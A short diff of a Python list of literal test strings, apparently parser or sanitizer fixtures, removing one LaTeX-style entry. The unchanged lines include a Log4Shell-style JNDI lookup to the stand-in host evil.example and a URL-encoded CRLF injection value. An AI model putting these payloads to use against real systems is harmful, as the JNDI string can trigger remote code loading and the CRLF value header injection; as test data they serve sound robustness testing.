@@ -237,7 +237,6 @@ LITERAL = [
     "![unknown] word",
     "=== word",
     "/// word",
-    "$\\alpha_s$ word",
     "${jndi:ldap://evil.example} word",
     "%0a%0d word",
 ]
